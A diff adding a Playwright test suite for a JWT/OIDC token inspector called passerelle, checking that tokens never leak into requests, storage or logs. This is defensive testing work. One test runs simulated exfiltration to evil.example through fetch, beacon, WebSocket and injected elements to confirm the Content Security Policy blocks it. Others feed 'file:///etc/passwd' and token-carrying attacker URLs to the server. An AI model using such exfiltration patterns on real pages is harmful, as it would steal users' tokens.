@@ -1,0 +1,496 @@
+// The token inspector: what it can do, and the promise that no script of ours sends a token anywhere (S27).
+import { execFileSync, spawnSync } from 'node:child_process';
+import { createRequire } from 'node:module';
+import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import * as jose from 'jose';
+import { expectAccessible } from '../support/accessibility.js';
+import { expect, test } from '../support/fixtures.js';
+import {
+  ISSUER, claims, encryptedTokens, pieces, playIssuer, signedTokens, tokensOfEachKind,
+} from '../support/tokens.js';
+
+const binary = () => process.env.PASSERELLE_BINARY ?? new URL('../../target/debug/passerelle', import.meta.url).pathname;
+
+const verdict = (page) => page.locator('.verdict');
+const paste = (page, text) => page.locator('#token').fill(text);
+const open = (page, name) => page.getByRole('tab', { name, exact: false }).click();
+
+async function withKey(page, key) {
+  await open(page, 'Keys');
+  await page.locator('#key-text').fill(typeof key === 'string' ? key : JSON.stringify(key));
+}
+
+/** Everything that leaves the page or stays in the browser, written down. */
+async function watch(page) {
+  const seen = [];
+  page.context().on('request', (request) => {
+    seen.push({ url: request.url(), text: `${request.method()} ${request.url()} ${request.postData() ?? ''} ${JSON.stringify(request.headers())}` });
+  });
+  page.on('websocket', (socket) => seen.push({ url: socket.url(), text: socket.url() }));
+  await page.addInitScript(() => {
+    globalThis.__stored = [];
+    const note = (what, ...values) => globalThis.__stored.push(`${what} ${values.map(String).join(' ')}`);
+    const set = Storage.prototype.setItem;
+    Storage.prototype.setItem = function (...values) {
+      note('storage', ...values);
+      return set.apply(this, values);
+    };
+    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
+    Object.defineProperty(Document.prototype, 'cookie', {
+      ...cookie,
+      set(value) {
+        note('cookie', value);
+        cookie.set.call(this, value);
+      },
+    });
+    for (const name of ['open', 'deleteDatabase']) {
+      const original = IDBFactory.prototype[name];
+      IDBFactory.prototype[name] = function (...values) {
+        note('indexeddb', ...values);
+        return original.apply(this, values);
+      };
+    }
+    for (const name of ['pushState', 'replaceState']) {
+      const original = History.prototype[name];
+      History.prototype[name] = function (...values) {
+        note('history', JSON.stringify(values));
+        return original.apply(this, values);
+      };
+    }
+    const beacon = Navigator.prototype.sendBeacon;
+    Navigator.prototype.sendBeacon = function (...values) {
+      note('beacon', ...values);
+      return beacon.apply(this, values);
+    };
+  });
+  return seen;
+}
+
+async function stored(page) {
+  const state = await page.evaluate(() => ({
+    noted: globalThis.__stored,
+    local: JSON.stringify({ ...localStorage }),
+    session: JSON.stringify({ ...sessionStorage }),
+    cookie: document.cookie,
+    name: window.name,
+    address: location.href,
+    history: JSON.stringify(history.state),
+  }));
+  return JSON.stringify(state);
+}
+
+function expectNothingOf(token, text, where) {
+  for (const piece of pieces(token)) expect(text.includes(piece), `a piece of the token in ${where}`).toBe(false);
+}
+
+test.describe('the promise', () => {
+  test.use({ serve: { args: ['--log', 'trace'] } });
+
+  test('s27 no request and no storage holds any part of a token, whatever kind comes whichever way', async ({ page, passerelle, trouble }) => {
+    test.slow();
+    trouble.expect(/issuer\.example/);
+    const seen = await watch(page);
+    await playIssuer(page, []);
+    const inspect = `${passerelle.url}/inspect`;
+    const ways = {
+      paste: async (token) => {
+        await page.goto(inspect);
+        await paste(page, token);
+      },
+      file: async (token) => {
+        await page.goto(inspect);
+        await page.locator('#file').setInputFiles({ name: 'token.txt', mimeType: 'text/plain', buffer: Buffer.from(token) });
+      },
+      fragment: async (token) => {
+        await page.goto('about:blank');
+        await page.goto(`${inspect}#id_token=${token}&state=s`);
+      },
+      query: async (token) => page.goto(`${inspect}?id_token=${token}&state=s`),
+      form_post: async (token) => {
+        await page.goto('about:blank');
+        await page.setContent(`<form method="post" action="${inspect}"><input name="id_token" value="${token}"></form>`);
+        await page.evaluate(() => document.forms[0].submit());
+        await page.waitForURL(inspect);
+      },
+    };
+    for (const { kind, token, key } of await tokensOfEachKind()) {
+      for (const [way, arrive] of Object.entries(ways)) {
+        const from = seen.length;
+        await arrive(token);
+        await expect(page.locator('#recognised'), `${kind} by ${way}`).toHaveText(kind);
+        if (key) await withKey(page, key);
+        for (const tab of ['Claims', 'Checks', 'Compare', 'Edit', 'Take along']) await open(page, tab);
+        expectNothingOf(token, await stored(page), `storage, ${way}`);
+        // What a form or a query brings, the browser sent by itself before any script ran.
+        const carried = (entry) => new URL(entry.url).pathname === '/inspect' && (way === 'query' || way === 'form_post');
+        for (const entry of seen.slice(from)) {
+          if (!carried(entry)) expectNothingOf(token, entry.text, `${entry.url}, ${way}`);
+        }
+        expect(page.url(), 'the address is wiped').toBe(inspect);
+        expectNothingOf(token, passerelle.output, `the log, ${way}`);
+      }
+    }
+  });
+
+  test('s27 an injected script reaches nobody', async ({ page, passerelle, trouble }) => {
+    trouble.expect(/Content Security Policy|violates|Refused|evil\.example|ERR_BLOCKED_BY_CSP/);
+    const reached = [];
+    await page.context().route('https://evil.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'x' });
+    });
+    await page.goto(`${passerelle.url}/inspect`);
+    await paste(page, (await tokensOfEachKind())[0].token);
+    await expect(page.locator('#recognised')).toBeVisible();
+    const refused = await page.evaluate(async (own) => {
+      const violations = [];
+      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+      const wait = () => new Promise((resolve) => setTimeout(resolve, 150));
+      const attempt = async (act) => {
+        const before = violations.length;
+        try { await act(); } catch { /* a refusal may throw */ }
+        await wait();
+        return violations.slice(before).join(' ');
+      };
+      const element = (name, attributes) => () => {
+        const made = Object.assign(document.createElement(name), attributes);
+        document.body.append(made);
+      };
+      const out = 'https://evil.example/?token=stolen';
+      return {
+        fetch: await attempt(() => fetch(out)),
+        ownFetch: await attempt(() => fetch(`${own}/inspect/keys?token=stolen`)),
+        ownRoot: await attempt(() => fetch(`${own}/?token=stolen`)),
+        beacon: await attempt(() => navigator.sendBeacon(out, 'stolen')),
+        socket: await attempt(() => new WebSocket('wss://evil.example/')),
+        image: await attempt(element('img', { src: out })),
+        frame: await attempt(element('iframe', { src: out })),
+        style: await attempt(element('link', { rel: 'stylesheet', href: out })),
+        script: await attempt(element('script', { src: out })),
+        object: await attempt(element('object', { data: out })),
+        form: await attempt(() => {
+          const form = Object.assign(document.createElement('form'), { action: out, method: 'post' });
+          document.body.append(form);
+          form.submit();
+        }),
+        base: await attempt(element('base', { href: 'https://evil.example/' })),
+      };
+    }, passerelle.url);
+    for (const [name, directive] of Object.entries(refused)) expect(directive, name).not.toBe('');
+    expect(reached).toEqual([]);
+  });
+
+  test('s27 key document and files answer 400 to any query, and write nothing of it', async ({ page, passerelle, request }) => {
+    const canary = 'canary-of-a-token-in-a-query';
+    await page.goto(`${passerelle.url}/inspect`);
+    const wasm = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name).find((name) => name.endsWith('.wasm')));
+    for (const url of [`${passerelle.url}/inspect/keys`, wasm]) {
+      expect((await request.get(url)).status()).toBe(200);
+      expect((await request.get(`${url}?${canary}`)).status()).toBe(400);
+      expect((await request.get(`${url}?t=${canary}`)).status()).toBe(400);
+    }
+    expect((await request.post(`${passerelle.url}/inspect/keys?${canary}`, { data: 'https://a.example/' })).status()).toBe(400);
+    // The server fetches from plain addresses only, and never from a loopback one.
+    for (const url of ['http://a.example/', `https://a.example/?t=${canary}`, 'https://a.example/eyJhbGciOiJub25lIn0', 'file:///etc/passwd']) {
+      expect((await request.post(`${passerelle.url}/inspect/keys`, { data: url, headers: { 'content-type': 'text/plain' } })).status()).toBe(400);
+    }
+    expect(passerelle.output).not.toContain(canary);
+  });
+
+  test('s27 the key document takes no address that could carry a token', async ({ page, passerelle }) => {
+    const token = (await tokensOfEachKind())[0].token;
+    await page.goto(`${passerelle.url}/inspect`);
+    for (const url of [`https://evil.example/${token}`, `https://evil.example/?t=${token}`, 'http://evil.example/', `https://u:p@evil.example/`]) {
+      await paste(page, '');
+      await open(page, 'Keys');
+      await page.locator('#key-address').fill(url);
+      await page.getByRole('button', { name: 'Use this address' }).click();
+      const frame = page.frameLocator('.key-frame');
+      await expect(frame.getByText('This is no address that keys are fetched from:')).toBeVisible();
+      await expect(frame.getByRole('button', { name: 'Fetch the keys' })).toBeHidden();
+    }
+  });
+});
+
+test.describe('what it does', () => {
+  test('every algorithm that jose signs with is verified, and a changed token is not', async ({ page, passerelle, trouble }) => {
+    test.slow();
+    await page.goto(`${passerelle.url}/inspect`);
+    for (const { alg, token, key } of await signedTokens()) {
+      await paste(page, token);
+      await withKey(page, key);
+      await expect(verdict(page), alg).toHaveText(/^Valid for testapp1 until .* signature checked with key /);
+      const [header, payload, signature] = token.split('.');
+      const other = (signature[0] === 'A' ? 'B' : 'A') + signature.slice(1);
+      await paste(page, `${header}.${payload}.${other}`);
+      await expect(verdict(page), `${alg}, changed`).toHaveText(/^Do not trust this token\./);
+    }
+  });
+
+  test('every encryption of jose that browsers know is decrypted', async ({ page, passerelle }) => {
+    test.slow();
+    await page.goto(`${passerelle.url}/inspect`);
+    for (const { alg, enc, token, key } of await encryptedTokens()) {
+      await paste(page, token);
+      await withKey(page, key);
+      await expect(verdict(page), `${alg} ${enc}`).toHaveText(/^Decrypted with /);
+      await open(page, 'Decoded token');
+      await expect(page.locator('#inside')).toContainText('canary-');
+    }
+  });
+
+  test('keys of another issuer come after a click that shows the address', async ({ page, passerelle }) => {
+    const { privateKey, publicKey } = await jose.generateKeyPair('RS256');
+    const asked = await playIssuer(page, [{ ...(await jose.exportJWK(publicKey)), kid: 'k1' }]);
+    const token = await new jose.SignJWT(claims()).setProtectedHeader({ alg: 'RS256', kid: 'k1' }).sign(privateKey);
+    await page.goto(`${passerelle.url}/inspect#id_token=${token}`);
+    await expect(verdict(page)).toContainText('the keys are at issuer.example');
+    const frame = page.frameLocator('.key-frame');
+    await expect(frame.locator('#address')).toHaveText(`${ISSUER}/.well-known/openid-configuration`);
+    expect(asked, 'nothing is asked without a click').toEqual([]);
+    await frame.getByRole('button', { name: 'Fetch the keys' }).click();
+    await expect(verdict(page)).toHaveText(/^Valid for testapp1 .* signature checked with key k1\.$/);
+    expect(asked).toEqual([`${ISSUER}/.well-known/openid-configuration`, `${ISSUER}/keys`]);
+    await open(page, 'Keys');
+    await expect(page.locator('#key-outcome')).toContainText('Signed with key k1.');
+    await expect(page.getByText('It has the kid that the token names')).toBeVisible();
+  });
+
+  test('an issuer that does not answer browsers is asked through the server only by choice', async ({ page, passerelle, trouble }) => {
+    trouble.expect(/CORS|ERR_FAILED|issuer\.example|502|Failed to load/);
+    const asked = await playIssuer(page, [], { cors: false });
+    const [{ token }] = await tokensOfEachKind();
+    const posted = [];
+    page.context().on('request', (request) => {
+      if (request.method() === 'POST') posted.push([request.url(), request.postData()]);
+    });
+    await page.goto(`${passerelle.url}/inspect#id_token=${token}`);
+    const frame = page.frameLocator('.key-frame');
+    await frame.getByRole('button', { name: 'Fetch the keys' }).click();
+    const byServer = frame.getByRole('button', { name: 'Let this server fetch them' });
+    await expect(byServer).toBeVisible();
+    expect(posted).toEqual([]);
+    await byServer.click();
+    await expect.poll(() => posted.length).toBe(1);
+    expect(posted[0]).toEqual([`${passerelle.url}/inspect/keys`, `${ISSUER}/.well-known/openid-configuration`]);
+  });
+
+  test('an authorization response is explained, and what came along is checked', async ({ page, passerelle }) => {
+    const token = await new jose.SignJWT(claims({ c_hash: 'wrong' })).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
+    await page.goto(`${passerelle.url}/inspect#code=the-code&state=xyz&iss=https%3A%2F%2Fissuer.example&id_token=${token}`);
+    await expect(page.getByText('What the application sent along; it must be the same')).toBeVisible();
+    await expect(page.getByText('Who answers (RFC 9207)')).toBeVisible();
+    await open(page, 'Checks');
+    await expect(page.locator('[data-code=other_c_hash]')).toBeVisible();
+    await page.goto('about:blank');
+    await page.goto(`${passerelle.url}/inspect?error=access_denied&error_description=AADB2C90091&state=1`);
+    await expect(page.getByRole('alert').filter({ hasText: 'cancelled' })).toBeVisible();
+    await expect(page.getByText('so this server received it')).toBeVisible();
+    expect(page.url()).toBe(`${passerelle.url}/inspect`);
+  });
+
+  test('expectations, a moment by the slider, and a link without the token', async ({ page, passerelle }) => {
+    const [{ token }] = await tokensOfEachKind();
+    await page.goto(`${passerelle.url}/inspect#view=checks&expect_aud=other&lang=en`);
+    await paste(page, token);
+    await expect(page.locator('[data-code=other_audience]')).toBeVisible();
+    await page.locator('#expect-audience').fill('testapp1');
+    await expect(page.locator('[data-code=audience]')).toBeVisible();
+    await page.locator('#moment').fill('120');
+    await expect(page.locator('[data-code=expired]')).toBeVisible();
+    await page.getByRole('button', { name: 'Now' }).click();
+    await expect(page.locator('[data-code=not_expired]')).toBeVisible();
+    await open(page, 'Take along');
+    const taken = await page.locator('#take-along').innerText();
+    expect(taken).toContain('#view=take-along&lang=en&expect_aud=testapp1');
+    const redacted = await page.locator('#take-along pre').first().innerText();
+    expectNothingOf(token, redacted, 'the redacted copy');
+    expect(JSON.parse(redacted).claims.sub).toBe('[removed]');
+    expect(JSON.parse(redacted).claims.iss).toBe(ISSUER);
+  });
+
+  test('two tokens are compared, and a changed one is signed again, marked', async ({ page, passerelle }) => {
+    const sign = (more) => new jose.SignJWT(claims(more)).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
+    await page.goto(`${passerelle.url}/inspect`);
+    await paste(page, await sign({ aud: 'a', extra: 1 }));
+    await open(page, 'Compare');
+    await page.locator('#other-token').fill(await sign({ aud: 'b' }));
+    await expect(page.locator('tr[data-difference=changed]', { hasText: 'aud' })).toBeVisible();
+    await expect(page.locator('tr[data-difference=first]', { hasText: 'extra' })).toBeVisible();
+    for (const alg of ['ES256', 'RS256', 'PS256', 'EdDSA', 'HS256']) {
+      await open(page, 'Edit');
+      await page.locator('#edit-claims').fill(JSON.stringify(claims({ admin: true })));
+      await page.locator('#edit-algorithm').selectOption(alg);
+      await page.getByRole('button', { name: 'Make a key and sign' }).click();
+      const [token, key] = await page.locator('#made pre').allInnerTexts();
+      expect(jose.decodeProtectedHeader(token)).toMatchObject({ alg, made_by: 'a token inspector, for tests' });
+      const { payload } = await jose.jwtVerify(token, await jose.importJWK(JSON.parse(key), alg));
+      expect(payload.admin).toBe(true);
+      await page.getByRole('button', { name: 'Inspect it with this key' }).click();
+      await expect(verdict(page), alg).toHaveText(/^Valid for testapp1 /);
+    }
+  });
+
+  test('a nested token, a disclosure and a certificate', async ({ page, passerelle }) => {
+    const inner = await new jose.SignJWT(claims()).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
+    const secret = new Uint8Array(32).fill(9);
+    const nested = await new jose.CompactEncrypt(new TextEncoder().encode(inner))
+      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
+      .encrypt(secret);
+    await page.goto(`${passerelle.url}/inspect`);
+    await paste(page, nested);
+    await withKey(page, { kty: 'oct', k: jose.base64url.encode(secret) });
+    await open(page, 'Decoded token');
+    await page.getByRole('button', { name: 'Inspect the token inside' }).click();
+    await expect(page.locator('#recognised')).toHaveText('ID token');
+    await page.getByRole('button', { name: 'Back to the token around it' }).click();
+    await expect(page.locator('#recognised')).toHaveText('Encrypted token');
+    const { token } = (await tokensOfEachKind()).find(({ kind }) => kind.includes('disclosure'));
+    await paste(page, token);
+    await expect(page.locator('#disclosures')).toContainText('given_name');
+    await expect(page.locator('#disclosures .field-error')).toHaveCount(0);
+  });
+
+  test('pointing at a claim marks its characters, and the other way round', async ({ page, passerelle }) => {
+    await page.goto(`${passerelle.url}/inspect`);
+    await paste(page, (await tokensOfEachKind())[0].token);
+    await open(page, 'Claims');
+    await page.locator('table.claims tr', { has: page.locator('code', { hasText: /^aud$/ }) }).first().hover();
+    await expect(page.locator('.claim-bytes[data-pointed=true]')).toHaveAttribute('title', 'aud');
+    await page.locator('.claim-bytes[title=sub]').hover();
+    await expect(page.locator('table.claims tr[data-pointed=true]')).toContainText('sub');
+  });
+
+  for (const [language, words] of [['de', 'Aussteller'], ['fr', 'Émetteur'], ['it', 'Emittente']]) {
+    test.describe(`in ${language}`, () => {
+      test.use({ locale: `${language}-CH` });
+      test('the page speaks it', async ({ page, passerelle }) => {
+        await page.goto(`${passerelle.url}/inspect#view=claims`);
+        await paste(page, (await tokensOfEachKind())[0].token);
+        await expect(page.locator('html')).toHaveAttribute('lang', language);
+        await expect(page.locator('table.claims').first()).toContainText(words);
+        await expectAccessible(page);
+      });
+    });
+  }
+
+  test('it works without a network once it is loaded, by keyboard, on a phone', async ({ page, passerelle, context }) => {
+    await page.setViewportSize({ width: 360, height: 740 });
+    await page.goto(`${passerelle.url}/inspect`);
+    await expect(page.locator('#token')).toBeVisible();
+    await context.setOffline(true);
+    const { privateKey, publicKey } = await jose.generateKeyPair('ES256');
+    const token = await new jose.SignJWT(claims({ iss: 'urn:nobody' })).setProtectedHeader({ alg: 'ES256' }).sign(privateKey);
+    await paste(page, token);
+    await page.locator('#tab-token').focus();
+    for (const name of ['Claims', 'Checks', 'Keys']) {
+      await page.keyboard.press('ArrowRight');
+      await expect(page.getByRole('tab', { selected: true })).toContainText(name);
+    }
+    await page.locator('#key-text').fill(JSON.stringify(await jose.exportJWK(publicKey)));
+    await expect(verdict(page)).toHaveText(/^Valid for testapp1 /);
+    for (const id of ['token', 'claims', 'checks', 'keys', 'compare', 'edit', 'take-along']) {
+      await page.locator(`#tab-${id}`).click();
+      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      expect(wide, `${id} at 360 px`).toBeLessThanOrEqual(0);
+      await expectAccessible(page);
+    }
+  });
+});
+
+test.describe('on a terminal', () => {
+  const run = (args, input) => {
+    const { stdout, status } = spawnSync(binary(), ['token', 'inspect', '-', '--format', 'json', ...args], { input, encoding: 'utf8' });
+    return { status, report: JSON.parse(stdout) };
+  };
+
+  test('the same answers for what jose made', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'inspect-'));
+    const file = join(folder, 'key.json');
+    try {
+      for (const { alg, token, key } of await signedTokens()) {
+        writeFileSync(file, JSON.stringify(key));
+        const { status, report } = run(['--keys', file, '--audience', 'testapp1'], token);
+        expect([alg, status, report.kind, report.signatures[0].outcome]).toEqual([alg, 0, 'ID token', 'valid']);
+        expect(run(['--keys', file, '--audience', 'other'], token).status).toBe(1);
+        expect(run(['--keys', file], token.slice(0, -8)).status).toBe(1);
+      }
+      for (const { alg, enc, token, key } of await encryptedTokens()) {
+        writeFileSync(file, JSON.stringify(key));
+        const { report } = run(['--keys', file], token);
+        expect(report.claims?.sub, `${alg} ${enc}`).toMatch(/^canary-/);
+      }
+    } finally {
+      rmSync(folder, { recursive: true });
+    }
+  });
+
+  test('the same answers for what joserfc makes', async () => {
+    const script = `
+import json
+from joserfc import jwt
+from joserfc.jwk import RSAKey, ECKey, OKPKey, OctKey
+made = []
+for alg in ['RS256','RS384','RS512','PS256','PS384','PS512','ES256','ES384','ES512','EdDSA','HS256','HS384','HS512']:
+    if alg[:2] in ('RS', 'PS'): key = RSAKey.generate_key(2048)
+    elif alg[:2] == 'ES': key = ECKey.generate_key({'ES256':'P-256','ES384':'P-384','ES512':'P-521'}[alg])
+    elif alg == 'EdDSA': key = OKPKey.generate_key('Ed25519')
+    else: key = OctKey.generate_key(int(alg[2:]))
+    members = key.as_dict(private=alg[:2] == 'HS')
+    token = jwt.encode({'alg': alg}, {'iss': 'i', 'sub': 'joserfc', 'aud': 'a', 'exp': 4102444800, 'iat': 1700000000}, key, algorithms=[alg])
+    made.append({'alg': alg, 'token': token, 'key': {k: members[k] for k in ('kty','n','e','crv','x','y','k') if k in members}})
+print(json.dumps(made))
+`;
+    const python = spawnSync('python3', ['-W', 'ignore', '-c', script], { encoding: 'utf8' });
+    if (python.status !== 0) {
+      // The committed tokens of joserfc are checked by \`cargo test -p token\` in any case.
+      console.warn('SKIPPED: the Python package joserfc is not installed (pip install joserfc); its live tokens are not compared.');
+      test.skip(!process.env.CI, 'joserfc is not installed');
+      throw new Error('joserfc is not installed, and CI must have it');
+    }
+    const folder = mkdtempSync(join(tmpdir(), 'inspect-'));
+    const file = join(folder, 'key.json');
+    try {
+      for (const { alg, token, key } of JSON.parse(python.stdout)) {
+        writeFileSync(file, JSON.stringify(key));
+        const { report } = run(['--keys', file], token);
+        expect([alg, report.signatures[0].outcome, report.claims.sub]).toEqual([alg, 'valid', 'joserfc']);
+      }
+    } finally {
+      rmSync(folder, { recursive: true });
+    }
+  });
+});
+
+test.describe('figures', () => {
+  test('ten thousand tokens of a file are listed while the page stays awake', async ({ page, passerelle }) => {
+    test.slow();
+    const { privateKey } = await jose.generateKeyPair('RS256');
+    const first = await new jose.SignJWT(claims({ name: 'x'.repeat(200) })).setProtectedHeader({ alg: 'RS256', kid: 'k1' }).sign(privateKey);
+    const [header, , signature] = first.split('.');
+    const lines = Array.from({ length: 10_000 }, (_, index) => {
+      const payload = jose.base64url.encode(JSON.stringify(claims({ sub: `person-${index}`, name: 'x'.repeat(200) })));
+      return `${header}.${payload}.${signature}`;
+    });
+    await page.addInitScript(() => {
+      globalThis.__long = [];
+      new PerformanceObserver((list) => globalThis.__long.push(...list.getEntries().map(({ duration }) => duration)))
+        .observe({ type: 'longtask' });
+    });
+    await page.goto(`${passerelle.url}/inspect`);
+    await expect(page.locator('#token')).toBeVisible();
+    await page.evaluate(() => (globalThis.__long.length = 0));
+    await page.locator('#file').setInputFiles({ name: 'tokens.txt', mimeType: 'text/plain', buffer: Buffer.from(lines.join('\n')) });
+    await expect(page.locator('#many-said')).toHaveText(/^10000 tokens, read in \d+ ms$/, { timeout: 30_000 });
+    const said = await page.locator('#many-said').innerText();
+    const long = await page.evaluate(() => globalThis.__long);
+    const require = createRequire(import.meta.url);
+    const library = readFileSync(join(dirname(require.resolve('jose')), 'util/decode_jwt.js'), 'utf8');
+    expect(library).toContain('decodeJwt');
+    console.log(`${said}; tasks over 50 ms: ${JSON.stringify(long.map(Math.round))}`);
+    await page.locator('#many-filter').fill('person-9999');
+    await expect(page.locator('.many tbody tr')).toHaveCount(1);
+  });
+});
